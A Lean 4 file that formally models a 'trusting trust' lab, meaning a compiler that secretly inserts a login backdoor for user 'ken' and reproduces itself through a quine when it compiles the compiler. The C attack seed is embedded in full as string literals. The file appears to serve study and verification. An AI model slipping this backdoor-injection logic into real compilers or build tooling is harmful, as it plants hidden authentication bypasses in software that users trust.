import EmbeddedOS.Text.Search

/-!
The compile functions of `compiler.c`, `trojan-compiler.c` and `trojan-compiler2.c`, up to the text
they hand to gcc in `./temp-out.c`. The program is a block of memory with a NUL after its text.
-/

namespace EmbeddedOS.TrustingTrust

open EmbeddedOS.Text

def nul : Char := Char.ofNat 0

def text (program : List Char) (p : Nat) : List Char := cstr nul program p

def strstr (program : List Char) (p : Nat) (needle : List Char) : Option Nat :=
  (find needle (text program p)).map (p + ·)

def strchr (program : List Char) (p : Nat) (c : Char) : Option Nat := strstr program p [c]

/-- The buffer of `main` and what `./temp-out.c` holds. -/
structure Files where
  program : List Char
  fp : List Char
  deriving DecidableEq

def Files.poke (s : Files) (p : Nat) (c : Char) : Files := { s with program := s.program.set p c }

def Files.fprintf (s : Files) (t : List Char) : Files := { s with fp := s.fp ++ t }

def fopen (program : List Char) : Files := ⟨program, []⟩

/-- `compile` of `compiler.c`. -/
def compile (program : List Char) : List Char :=
  let s := fopen program
  (s.fprintf (text s.program 0)).fp

def loginSig : List Char := "int login(char *user) \x7b".toList

def loginAttack : List Char := "if(strcmp(user, \"ken\") == 0) return 1;".toList

def enter : List Char := ['\n']

def compileSig : List Char :=
  ("static void compile(char *program, char *outname) \x7b\n" ++
   "    FILE *fp = fopen(\"./temp-out.c\", \"w\");\n" ++
   "    assert(fp);").toList

def compileAttack : List Char :=
  "printf(\"%s: could have run your attack here!!\\n\", __FUNCTION__);".toList

def assertStr : List Char := "assert".toList

namespace Step2

/-- The match on login; a dereference of NULL gives `none`. -/
def login (s : Files) : Option Files :=
  match strstr s.program 0 loginSig with
  | none => some s
  | some ptr => do
    let insertPtr ← strchr s.program ptr '\n'
    let tmp := s.program.getD insertPtr nul
    let s := s.poke insertPtr nul
    let s := s.fprintf (text s.program 0)
    let s := s.fprintf enter
    let s := s.fprintf loginAttack
    let s := s.fprintf enter
    let s := s.fprintf (text s.program (insertPtr + 1))
    some (s.poke insertPtr tmp)

def compiler (s : Files) : Option Files :=
  match strstr s.program 0 compileSig with
  | none => some s
  | some ptr => do
    let insertPtr ← strstr s.program ptr assertStr
    let insertPtr ← strchr s.program insertPtr '\n'
    let s := s.poke insertPtr nul
    let s := s.fprintf (text s.program 0)
    let s := s.fprintf compileAttack
    some (s.fprintf (text s.program (insertPtr + 1)))

/-- `compile` of `trojan-compiler.c`. -/
def compile (program : List Char) : Option (List Char) := do
  let s ← login (fopen program)
  let s ← compiler s
  some s.fp

end Step2

namespace Step3

def attackSeed : List String := [
    "/*****************************************************************",
    "    * Step 1:",
    "    */",
    "",
    "// match on the start of the login() routine:",
    "static char login_sig[] = \"int login(char *user) \x7b\";",
    "",
    "// and inject an attack for \"ken\":",
    "static char login_attack[] = \"if(strcmp(user, \\\"ken\\\") == 0) return 1;\";",
    "",
    "static char enter[] = \"\\n\";",
    "",
    "char *ptr = strstr(program, login_sig);",
    "if (ptr != NULL) \x7b",
    "    char *insert_ptr = strchr(ptr, '\\n');",
    "    char tmp = *insert_ptr;",
    "    *insert_ptr = '\\0';",
    "    fprintf(fp, \"%s\", program);",
    "    *program = '\\0';",
    "    fprintf(fp, \"%s\", enter);",
    "    fprintf(fp, \"%s\", login_attack);",
    "    fprintf(fp, \"%s\", enter);",
    "    fprintf(fp, \"%s\", insert_ptr+1);",
    "    *insert_ptr = tmp;",
    "\x7d",
    "",
    "/*****************************************************************",
    "    * Step 2:",
    "    */",
    "",
    "// search for the start of the compile routine: ",
    "static char compile_sig[] =",
    "        \"static void compile(char *program, char *outname) \x7b\\n\"",
    "        \"    FILE *fp = fopen(\\\"./temp-out.c\\\", \\\"w\\\");\\n\"",
    "        \"    assert(fp);\"",
    "        ;",
    "",
    "// and inject a placeholder \"attack\":",
    "// inject this after the assert above after the call to fopen.",
    "// not much of an attack.   this is just a quick placeholder.",
    "// static char compile_attack[] ",
    "//             = \"printf(\\\"%s: #include \\'attack-seed.c\\'\\\\n\\\", __FUNCTION__);\";",
    "",
    "ptr = strstr(program, compile_sig);",
    "if (ptr != NULL) \x7b",
    "    static char assert_str[] = \"assert\";",
    "    char *insert_ptr = strstr(ptr, assert_str);",
    "    insert_ptr = strchr(insert_ptr, '\\n');",
    "    *insert_ptr = '\\0';",
    "    fprintf(fp, \"%s\", program);",
    "    *program = '\\0';",
    "    fprintf(fp, \"char prog[] = \x7b\\n\");",
    "    int i;",
    "    for(i = 0; prog[i]; i++)",
    "        fprintf(fp, \"\\t%d,%c\", prog[i], (i+1)%8==0 ? '\\n' : ' ');",
    "    fprintf(fp, \"0 \x7d;\\n\");",
    "    fprintf(fp, \"%s\", prog);",
    "    fprintf(fp, \"%s\", insert_ptr+1);",
    "\x7d"]

@[irreducible] def prog : List Char := attackSeed.flatMap fun line => line.toList ++ ['\n']

@[irreducible] def progBytes : List Char :=
  prog.zipIdx.flatMap fun (c, i) =>
    '\t' :: (toString c.toNat).toList ++ [',', if (i + 1) % 8 = 0 then '\n' else ' ']

@[irreducible] def progOpen : List Char := "char prog[] = \x7b\n".toList

@[irreducible] def progClose : List Char := "0 \x7d;\n".toList

def quine : List Char := progOpen ++ progBytes ++ progClose ++ prog

def login (s : Files) : Option Files :=
  match strstr s.program 0 loginSig with
  | none => some s
  | some ptr => do
    let insertPtr ← strchr s.program ptr '\n'
    let tmp := s.program.getD insertPtr nul
    let s := s.poke insertPtr nul
    let s := s.fprintf (text s.program 0)
    let s := s.poke 0 nul
    let s := s.fprintf enter
    let s := s.fprintf loginAttack
    let s := s.fprintf enter
    let s := s.fprintf (text s.program (insertPtr + 1))
    some (s.poke insertPtr tmp)

def compiler (s : Files) : Option Files :=
  match strstr s.program 0 compileSig with
  | none => some s
  | some ptr => do
    let insertPtr ← strstr s.program ptr assertStr
    let insertPtr ← strchr s.program insertPtr '\n'
    let s := s.poke insertPtr nul
    let s := s.fprintf (text s.program 0)
    let s := s.poke 0 nul
    let s := s.fprintf progOpen
    let s := s.fprintf progBytes
    let s := s.fprintf progClose
    let s := s.fprintf prog
    some (s.fprintf (text s.program (insertPtr + 1)))

/-- `compile` of `trojan-compiler2.c`, which includes `attack-quine.c`. -/
def compile (program : List Char) : Option (List Char) := do
  let s ← login (fopen program)
  let s ← compiler s
  some s.fp

end Step3

end EmbeddedOS.TrustingTrust
